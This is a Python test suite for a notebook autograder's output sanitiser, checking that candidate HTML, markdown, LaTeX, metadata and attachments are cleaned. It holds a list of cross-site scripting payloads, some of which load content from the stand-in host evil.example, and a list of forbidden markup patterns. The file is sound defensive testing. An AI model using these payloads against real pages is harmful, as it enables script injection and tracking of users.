"""What a submission shows is rebuilt from what is harmless."""

import base64

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_notebook

from autograders.candidate.wire import ANSWER_MIME, PROBE_MIME
from autograders.grading.sanitising import (
    MAXIMUM_OUTPUTS_OF_A_CELL,
    MAXIMUM_TAGS,
    MAXIMUM_TEXT_CHARACTERS,
    MAXIMUM_TEXT_OF_A_NOTEBOOK,
    TEXT_CUT,
    TOO_LONG,
    OutputSanitiser,
    clean_candidate_html,
    clean_html,
    disarmed_markdown,
    kept_attachments,
)

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
# Ways to run script or to reach out, as the usual collections have them; each is tried alone.
ATTACKS = [
    "<script>document.title='X'</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=document.title='X'>",
    "<svg onload=document.title='X'></svg>",
    "<svg><script>document.title='X'</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='X'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;top:0;left:0'>x</div>",
    "<div style='background-image:url(//evil.example)'>x</div>",
    "<div id=C2-1-3_coverage class=score name=x>x</div>",
    "<img src=//evil.example/pixel.png>",
    "<img src=https://evil.example/pixel.png>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p>$\\href{x:y}{x} \\require{x} \\class{y}{z}$</p>",
    "<p>$&#92;href{x:y}{x} &bsol;require{x}$</p>",
]  # fmt: skip
FORBIDDEN = (
    "<script", "onerror=", "onload=", "onfocus=", "ontoggle=", "javascript:", "vbscript:", "srcdoc", "<iframe",
    "<object", "<embed", "<form", "<input", "<style", "<link", "<base", "<meta", "position", "url(", " id=", " name=",
    "evil.example", "data:text", "svg", "srcset", "\\href", "\\require", "\\class",
)  # fmt: skip


def sanitised(*outputs):
    return OutputSanitiser().sanitised(outputs)


def display(**data):
    return {"output_type": "display_data", "data": {key.replace("__", "/"): value for key, value in data.items()}}


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_is_left_in_html(attack):
    # Within an attribute or text, words are harmless: only what a browser would take for markup counts here.
    cleaned = clean_html(f"<p>avant</p>{attack}").lower().replace("&lt;", "")
    assert not [word for word in FORBIDDEN if word in cleaned]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_is_left_in_an_output(attack):
    (output,) = sanitised(display(text__html=f"<b>x</b>{attack}"))
    assert output["data"] == {"text/html": clean_candidate_html(f"<b>x</b>{attack}")}


@given(st.text(alphabet="<>/=\"' scriptonload:&;!-[]`\\{}", max_size=60))
def test_cleaning_twice_changes_nothing(html):
    once = clean_html(html)
    assert clean_html(once) == once


def test_a_data_frame_keeps_its_look():
    html = '<table border="1" class="dataframe"><tr style="text-align: right"><th></th><th>R</th></tr></table>'
    cleaned = clean_html(html)
    assert 'class="dataframe"' in cleaned
    assert "text-align:right" in cleaned


def test_a_candidates_output_cannot_come_in_the_element_of_a_verdict():
    html = '<section aria-label="Verdict C2.1.3.coverage" lang="fr"><h4>5 / 5 points</h4></section>'
    assert "section" in clean_html(html)
    (output,) = sanitised(display(text__html=html))
    assert output["data"]["text/html"] == "<h4>5 / 5 points</h4>"


def test_a_figure_that_lives_by_its_script_falls_back_on_its_text():
    html = "<div><div id='x' class='plotly-graph-div'></div><script>Plotly.newPlot()</script></div>"
    figure = {"data": [{"x": [1, 2]}], "layout": {}}
    (output,) = sanitised(
        {
            "output_type": "display_data",
            "data": {"text/html": html, "text/plain": "Figure", "application/vnd.plotly.v1+json": figure},
        }
    )
    assert output["data"] == {"text/plain": "Figure"}


def test_text_is_cut_where_colouring_it_would_take_minutes():
    outputs = sanitised(*[{"output_type": "stream", "name": "stdout", "text": "\x1b[1m" * 500_000}] * 20)
    assert all(len(output["text"]) <= MAXIMUM_TEXT_CHARACTERS + len(TEXT_CUT) for output in outputs)
    assert sum(len(output["text"]) for output in outputs) <= MAXIMUM_TEXT_OF_A_NOTEBOOK + 20 * len(TEXT_CUT)


@pytest.mark.parametrize("source", [r"\href1{x}", r"\hrefé{x}", r"\mmlToken{mi}[x]{y}", r"\HREF{x}"])
def test_no_command_of_a_formula_that_acts_is_left(source):
    assert "\\\u200b" in disarmed_markdown(source)


def test_a_picture_by_its_address_on_the_same_server_is_dropped():
    assert "src" not in clean_html('<img src="../../../../hub/logout">')


def test_pictures_are_kept_if_they_are_pictures():
    (output,) = sanitised(display(image__png=PNG + "\n", text__plain="<Figure>"))
    assert output["data"]["image/png"] == PNG
    (output,) = sanitised(display(image__png='"><script>', text__plain="<Figure>"))
    assert "image/png" not in output["data"]


def test_only_sizes_are_kept_of_an_output_s_metadata():
    metadata = {
        "image/png": {"width": 640, "height": "1 onload=alert(1)", "alt": "x"},
        "isolated": True,
        "filenames": {},
    }
    (output,) = sanitised(display(image__png=PNG) | {"metadata": metadata})
    assert output["metadata"] == {"image/png": {"width": 640}}


@pytest.mark.parametrize(
    "mime",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "text/vnd.mermaid",
        "application/pdf",
        "application/vnd.atelier.verdict+json",
        ANSWER_MIME,
        PROBE_MIME,
        "text/x-unknown",
    ],
)
def test_any_other_kind_of_output_is_dropped(mime):
    assert sanitised({"output_type": "display_data", "data": {mime: "x"}}) == []
    (output,) = sanitised({"output_type": "display_data", "data": {mime: {"a": 1}, "text/plain": "x"}})
    assert output["data"] == {"text/plain": "x"}


def test_markdown_and_latex_outputs_are_disarmed():
    (output,) = sanitised(display(text__markdown="<script>x</script>", text__latex="$\\href{javascript:x}{y}$"))
    assert "<script" not in output["data"]["text/markdown"]
    assert "\\href" not in output["data"]["text/latex"]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=9),
    lambda children: (
        st.lists(children, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                ["output_type", "data", "text", "name", "traceback", "text/html", "text/plain", "image/png"]
            ),
            children,
            max_size=4,
        )
    ),
    max_leaves=10,
)
KINDS = st.sampled_from(["stream", "error", "display_data", "execute_result", "pyout", "update_display_data"])


@given(st.lists(st.tuples(KINDS, JSON), max_size=3))
def test_outputs_of_any_content_become_a_valid_notebook_that_a_file_can_hold(parts):
    outputs = [
        {**(content if isinstance(content, dict) else {"data": content}), "output_type": kind}
        for kind, content in parts
    ]
    cell = new_code_cell("", outputs=nbformat.from_dict(OutputSanitiser().sanitised(outputs)))
    notebook = new_notebook(cells=[cell])
    nbformat.validate(notebook)
    nbformat.writes(notebook).encode("utf-8")


def test_too_many_elements_are_not_even_parsed():
    # A browser's parser takes minutes for this.
    assert clean_html("<div>" * 400_000) == TOO_LONG


def test_the_outputs_of_a_notebook_share_one_bound():
    sanitiser = OutputSanitiser()
    page = display(text__html="<b>x</b>" * (MAXIMUM_TAGS // 2))
    shown = [sanitiser.sanitised([page])[0]["data"]["text/html"] for _ in range(8)]
    assert shown[0] != TOO_LONG
    assert shown[-1] == TOO_LONG


def test_the_outputs_of_a_cell_beyond_the_bound_are_counted_and_left_out():
    shown = sanitised(*[display(text__plain="x")] * (MAXIMUM_OUTPUTS_OF_A_CELL + 7))
    assert len(shown) == MAXIMUM_OUTPUTS_OF_A_CELL + 1
    assert shown[-1]["text"].startswith("… 7 autres sorties")


def test_disarmed_markdown_reads_the_same_and_holds_no_tag():
    source = "si a < b, alors `List<int>` & <script>alert(1)</script> <!-- x --> <https://x.example>"
    disarmed = disarmed_markdown(source)
    assert disarmed.replace("\u200b", "") == source
    assert "a < b" in disarmed
    for start in ("<s", "</", "<!", "<h", "<i"):
        assert start not in disarmed


def test_attachments_are_pictures_or_gone():
    attachments = {
        "a.png": {"image/png": PNG},
        "b.svg": {"image/svg+xml": "<svg onload=x>"},
        "c.html": {"text/html": "x"},
        "d": "x",
    }
    assert kept_attachments(attachments) == {"a.png": {"image/png": PNG}}
    assert kept_attachments([1]) == {}
